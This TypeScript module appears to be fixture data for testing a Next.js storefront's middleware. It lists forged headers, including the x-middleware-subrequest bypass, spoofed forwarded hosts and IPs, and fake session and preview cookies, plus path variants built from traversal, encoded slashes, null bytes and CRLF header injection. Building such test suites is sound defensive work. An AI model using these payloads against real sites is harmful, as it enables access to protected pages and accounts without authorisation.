/* Requests that have bypassed the middleware of Next or other servers, or might do so. */

const five = (name: string) => Array<string>(5).fill(name).join(':');
const tree = (...names: string[]) => {
  const inner = names.reduceRight<unknown>((children, name) => ({ children: [name, children] }), {
    children: ['__PAGE__', {}, null, 'refetch'],
  });
  return encodeURIComponent(JSON.stringify(['', inner]));
};

/** Header attacks, by the forged claim. */
export const headerTricks: Record<string, Record<string, string>> = {
  'a middleware that has run': { 'x-middleware-subrequest': 'middleware' },
  'one that has run five times': { 'x-middleware-subrequest': five('middleware') },
  'one in src': { 'x-middleware-subrequest': five('src/middleware') },
  'one of old': { 'x-middleware-subrequest': 'pages/_middleware' },
  'one of the page': {
    'x-middleware-subrequest': 'pages/profile/_middleware:src/pages/_middleware',
  },
  'a subrequest id': { 'x-middleware-subrequest-id': 'x', 'x-middleware-invoke': '1' },
  'a rewrite': { 'x-middleware-rewrite': '/profile', 'x-nextjs-rewrite': '/profile' },
  'a middleware that let it go on': { 'x-middleware-next': '1', 'x-middleware-prefetch': '1' },
  'a middleware that set the path': {
    'x-middleware-override-headers': 'cookie',
    'x-middleware-request-cookie': 'next-auth.session-token=x',
  },
  'a data request': { 'x-nextjs-data': '1' },
  'the storefront to its renderer': { 'x-answer-held': '1', 'x-answer-changes': '*' },
  'a matched route': { 'x-now-route-matches': '1=profile&nxtPorderId=SO-000001' },
  'an invoked path': {
    'x-invoke-path': '/profile',
    'x-invoke-status': '200',
    'x-invoke-query': '%7B%7D',
  },
  'a matched path': { 'x-matched-path': '/profile', 'x-vercel-id': 'x' },
  'another host': { 'x-forwarded-host': 'localhost', 'x-forwarded-proto': 'https' },
  'another site': { 'x-forwarded-host': 'evil.example', forwarded: 'host=evil.example' },
  'another prefix': {
    'x-forwarded-prefix': '/faq',
    'x-forwarded-uri': '/faq',
    'x-original-uri': '/faq',
  },
  'an original address': { 'x-original-url': '/faq', 'x-rewrite-url': '/faq' },
  'the inside of the house': { 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1' },
  'another method': { 'x-http-method-override': 'POST', 'x-method-override': 'HEAD' },
  'a router': { rsc: '1' },
  'a router that looks ahead': { rsc: '1', 'next-router-prefetch': '1' },
  'a router that looks at a part ahead': {
    rsc: '1',
    'next-router-prefetch': '1',
    'next-router-segment-prefetch': '/_tree',
  },
  'a router that has the layout': {
    rsc: '1',
    'next-router-state-tree': tree('(account)', 'profile'),
  },
  'a router that has the checkout': {
    rsc: '1',
    'next-router-state-tree': tree('(checkout)', 'checkout'),
    'next-url': '/checkout',
  },
  'an action': { 'next-action': 'a'.repeat(40), accept: 'text/x-component' },
  'a preview': {
    cookie: '__prerender_bypass=x; __next_preview_data=x',
    'x-prerender-revalidate': 'x',
  },
  'a customer': { authorization: 'token x'.padEnd(50, 'x'), 'x-user-id': '1' },
};

/** Alternative spellings of a path; careless servers map each of them to the page. */
export const spellings: Record<string, (path: string) => string> = {
  'a doubled slash': (path) => `/${path}`,
  'slashes inside': (path) => path.replaceAll('/', '//'),
  'a slash at the end': (path) => `${path}/`,
  'a dot segment': (path) => `/.${path}`,
  'a dot at the end': (path) => `${path}/.`,
  'a way through the shop': (path) => `/shop/..${path}`,
  'a way through a product': (path) => `/products/1/x/../../..${path}`,
  'a way through the API': (path) => `/api/..${path}`,
  'a way through files': (path) => `/_next/static/../..${path}`,
  'a way through pictures': (path) => `/pictures/..${path}`,
  'encoded dots': (path) => `/shop/%2e%2e${path}`,
  'dots that are encoded twice': (path) => `/shop/%252e%252e${path}`,
  'encoded slashes': (path) => `/${path.slice(1).replaceAll('/', '%2f')}%2f`,
  'an encoded slash before it': (path) => `/%2f${path.slice(1)}`,
  'a way with encoded slashes': (path) => `/icon/..%2f${path.slice(1)}`,
  'a way through files with them': (path) => `/_next/..%2f${path.slice(1)}`,
  'an encoded backslash': (path) => `/%5c${path.slice(1)}`,
  'a backslash': (path) => `\\${path.slice(1)}`,
  backslashes: (path) => `/${path.slice(1).replaceAll('/', '\\')}`,
  'a semicolon': (path) => `${path};x=1`,
  'a semicolon and more': (path) => `/;x=1${path}`,
  capitals: (path) => path.replace(/^\/[a-z]+/, (name) => name.toUpperCase()),
  'an encoded letter': (path) => `/%${path.charCodeAt(1).toString(16)}${path.slice(2)}`,
  'a null byte': (path) => `${path}%00`,
  'a null byte and a file': (path) => `${path}%00.css`,
  'a line break': (path) => `${path}%0d%0ax-middleware-next:1`,
  'a space': (path) => `${path}%20`,
  'a file of data': (path) => `/_next/data/development${path}.json`,
  'a file of the router': (path) => `${path}.rsc`,
  'a part of it': (path) => `${path}.segments/_tree.segment.rsc`,
  'a file of text': (path) => `${path}.txt`,
  'a script': (path) => `${path}.js`,
  'a language': (path) => `/en${path}`,
  'a language that Next knows': (path) => `/_next/en${path}`,
  'its group': (path) => `/(account)${path}`,
  'its file': (path) => `${path}/page`,
  'a query of the router': (path) => `${path}?_rsc=1`,
  'a query of Next': (path) => `${path}?__nextDefaultLocale=en&__nextDataReq=1&nxtPorderId=1`,
  'the dress of an app': (path) => `${path}?mobile=true`,
  'a long way': (path) => `${path}/${'a'.repeat(4_000)}`,
  'a long query': (path) => `${path}?x=${'a'.repeat(4_000)}`,
  'a hash': (path) => `${path}#/faq`,
  'an address of its own': (path) => `http://evil.example${path}`,
};
